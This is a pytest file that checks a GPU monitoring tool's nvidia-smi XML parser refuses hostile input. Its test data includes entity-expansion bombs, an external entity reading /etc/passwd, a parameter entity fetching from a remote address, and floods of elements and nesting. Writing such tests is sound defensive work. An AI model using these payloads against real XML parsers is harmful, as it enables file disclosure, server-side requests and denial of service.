import time

import pytest

from gpuboard.model.errors import ProbeFailed
from gpuboard.probes.nvidia_smi.xml import parse_xml
from tests.probes.nvidia_smi.logs import NEW

_BOMB = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
_DEFAULTS = " ".join(f"a{n} CDATA '{n}'" for n in range(5000))


def _with_doctype(inside: str, content: str = "<gpu><uuid>&a11;</uuid></gpu>") -> bytes:
    head = f'<?xml version="1.0"?>\n<!DOCTYPE nvidia_smi_log [{inside}]>\n'
    return f"{head}<nvidia_smi_log>{content}</nvidia_smi_log>".encode()


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(_with_doctype(f'<!ENTITY a0 "ha">{_BOMB}'), id="a billion laughs"),
        pytest.param(_with_doctype(f'<!ENTITY a11 "{"A" * 100_000}">'), id="quadratic growth"),
        pytest.param(_with_doctype('<!ENTITY a11 SYSTEM "file:///etc/passwd">'), id="a file from here"),
        pytest.param(_with_doctype('<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;'), id="a page from there"),
        pytest.param(
            _with_doctype(f"<!ATTLIST a {_DEFAULTS}>", "<a/>" * 20_000), id="attributes from nowhere"
        ),
        pytest.param(_with_doctype("<!ATTLIST a b CDATA 'c'>", "<a/>"), id="one attribute from nowhere"),
        pytest.param(_with_doctype("<!ELEMENT a ANY>", ""), id="an element of its own"),
        pytest.param(_with_doctype("", ""), id="nothing declared, but room for it"),
        pytest.param(
            _with_doctype("", "").replace(b"log [", b'log SYSTEM "a>" ['), id="a name with an end in it"
        ),
        pytest.param(b"<nvidia_smi_log>" + b"<a>" * 100_000, id="depth without end"),
        pytest.param(
            b"<nvidia_smi_log><gpu>" + b"<process_info></process_info>" * 9000, id="a flood of processes"
        ),
        pytest.param(b"<nvidia_smi_log>" + b"<a/>" * 600_000, id="a flood of elements"),
        pytest.param(b'<?xml version="1.0"?>\n<html></html>', id="another document"),
        pytest.param(b"<nvidia_smi_log>" + b"x" * (16 * 1024 * 1024), id="length without end"),
    ],
)
def test_a_document_made_to_do_harm_is_refused_at_once(data: bytes) -> None:
    """It says that it is unreadable; nothing is expanded, fetched or built up."""
    started = time.thread_time()
    with pytest.raises(ProbeFailed) as caught:
        parse_xml(data)
    assert caught.value.problem.kind == "unreadable-output"
    assert time.thread_time() - started < 5


@pytest.mark.parametrize(
    "line", [b"<process_name>" * 200_000, b"<process_name>&" * 200_000, b"\t" * 2_000_000]
)
def test_a_line_made_to_take_long_does_not(line: bytes) -> None:
    """Each step goes over the text once."""
    started = time.thread_time()
    with pytest.raises(ProbeFailed):
        parse_xml(b"<nvidia_smi_log>\n" + line)
    assert time.thread_time() - started < 5


def test_the_drivers_own_harmless_doctype_is_accepted() -> None:
    """Every real document names a DTD that is nowhere to be found."""
    assert b"<!DOCTYPE" in NEW
    assert len(parse_xml(NEW).gpus) == 2


def test_a_declared_encoding_does_not_matter() -> None:
    """Bytes were already made text."""
    assert len(parse_xml(NEW.replace(b'"1.0" ?>', b'"1.0" encoding="ISO-8859-1"?>')).gpus) == 2
